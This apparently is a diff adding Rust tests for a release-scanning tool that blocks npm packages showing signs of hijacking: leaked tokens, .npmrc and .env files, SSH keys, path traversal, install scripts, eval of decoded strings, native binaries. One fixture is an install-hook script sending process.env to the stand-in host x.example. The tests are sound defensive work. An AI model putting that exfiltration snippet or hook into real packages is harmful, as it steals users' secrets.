@@ -167,8 +167,72 @@ fn a_release_that_newly_does_what_hijacked_ones_do_blocks() {
     }
     let installs = br#"{"name": "acme", "version": "1.0.1", "scripts": {"preinstall": "node setup.js"}}"#;
     repo.write("new.tgz", npm(&[("package.json", installs), INDEX]));
-    let run = repo.shield(&["publish", "new.tgz", "--against", "old.tgz", "--format", "json"]).expect(0);
-    assert!(run.stdout.contains("install-script"), "{}", run.stdout);
+    let run = repo.shield(&["publish", "new.tgz", "--against", "old.tgz", "--format", "json"]).expect(1);
+    assert!(run.stdout.contains("runs a command when it is installed (`preinstall`)"), "{}", run.stdout);
+    repo.shield(&["publish", "new.tgz", "--against", "new.tgz"]).expect(0);
+    // A native part that was built where it was installed may come along, built; a program that came from nowhere may not.
+    let program = [b"\x7fELF".as_slice(), &[7; 64]].concat();
+    let native: Files<'_> = &[("package.json", MANIFEST), INDEX, ("prebuilds/a.node", &program)];
+    repo.write("new.tgz", npm(native));
+    repo.shield(&["publish", "new.tgz", "--against", "old.tgz"]).expect(1);
+    repo.write("old.tgz", npm(&[("package.json", MANIFEST), INDEX, ("binding.gyp", b"{}")]));
+    let run = repo.shield(&["publish", "new.tgz", "--against", "old.tgz"]).expect(0);
+    assert!(run.stdout.contains("release-changed"), "{run:?}");
+}
+
+#[test]
+fn what_the_release_before_had_is_old_in_any_file_and_in_any_packing() {
+    let sandbox = Sandbox::new();
+    let repo = project(&sandbox);
+    let leak = format!("const token = '{}'\n", npm_token());
+    let text = format!("{leak}// {}\n", "x".repeat(200));
+    let packed = gzip(text.as_bytes());
+    // The header of gzip has the time of packing, so that equal content is packed into other bytes.
+    let again = [&packed[..4], &[1, 2, 3, 4], &packed[8..]].concat();
+    repo.write("old.tgz", npm(&[("package.json", MANIFEST), ("data/a.json.gz", &packed)]));
+    repo.write("new.tgz", npm(&[("package.json", MANIFEST), ("data/a.json.gz", &again)]));
+    repo.shield(&["publish", "new.tgz", "--no-git", "--against", "old.tgz"]).expect(0);
+    let run = repo.shield(&["publish", "new.tgz", "--no-git", "--format", "json"]).expect(1);
+    assert_eq!(run.blocking().len(), 1, "{}", run.stdout);
+    // A bundle has another name in each release.
+    repo.write("old.tgz", npm(&[("package.json", MANIFEST), ("dist/main.1a2b.js", leak.as_bytes())]));
+    let moved = format!("start()\n{leak}");
+    repo.write("new.tgz", npm(&[("package.json", MANIFEST), ("dist/main.3c4d.js", moved.as_bytes())]));
+    repo.shield(&["publish", "new.tgz", "--no-git", "--against", "old.tgz"]).expect(0);
+    let other = format!("const token = '{}'\n", npm_token());
+    repo.write("new.tgz", npm(&[("package.json", MANIFEST), ("dist/main.3c4d.js", other.as_bytes())]));
+    repo.shield(&["publish", "new.tgz", "--no-git", "--against", "old.tgz"]).expect(1);
+}
+
+#[test]
+fn ten_bad_releases_are_stopped_with_the_right_words() {
+    let sandbox = Sandbox::new();
+    let repo = project(&sandbox);
+    repo.write("old.tgz", npm(&[("package.json", MANIFEST), INDEX]));
+    let leak = format!("module.exports = '{}'\n", npm_token());
+    let rc = format!("//registry.example/:_authToken={}\n", npm_token());
+    let script = br#"{"name": "acme", "version": "1.0.1", "scripts": {"postinstall": "node lib/setup.js"}}"#;
+    let bundled = br#"{"name": "acme", "version": "1.0.1", "dependencies": {"axios": "1.14.1"}}"#;
+    let code = b"const os = require('os'), https = require('https')\n\
+        https.request({host: 'x.example', path: os.hostname()}).end(JSON.stringify(process.env))\n";
+    let program = [b"\x7fELF".as_slice(), &[7; 64]].concat();
+    let cases: [(Files<'_>, &str); 10] = [
+        (&[("package.json", MANIFEST), INDEX, ("lib/config.js", leak.as_bytes())], "npm access token"),
+        (&[("package.json", MANIFEST), INDEX, (".npmrc", rc.as_bytes())], "settings of a package manager"),
+        (&[("package.json", MANIFEST), INDEX, ("app/.env", b"DB=acme\n")], "environment of a deployment"),
+        (&[("package.json", MANIFEST), INDEX, (".git/config", b"[core]\n")], "the repository itself, with its history"),
+        (&[("package.json", MANIFEST), INDEX, (".ssh/id_ed25519", b"x")], "SSH keys"),
+        (&[("package.json", MANIFEST), INDEX, ("../../x", b"1")], "leads out of the folder"),
+        (&[("package.json", script), INDEX, ("lib/setup.js", code)], "runs a command when it is installed"),
+        (&[("package.json", MANIFEST), ("index.js", b"eval(atob(x))\n")], "runs code from a string that it decodes"),
+        (&[("package.json", MANIFEST), INDEX, ("bin/tool", &program)], "contains a native program"),
+        (&[("package.json", bundled), INDEX], "axios@1.14.1"),
+    ];
+    for (files, words) in cases {
+        repo.write("new.tgz", npm(files));
+        let run = repo.shield(&["publish", "new.tgz", "--no-git", "--against", "old.tgz"]).expect(1);
+        assert!(run.stdout.to_lowercase().contains(&words.to_lowercase()), "{words}: {}", run.stdout);
+    }
 }
 
 #[test]
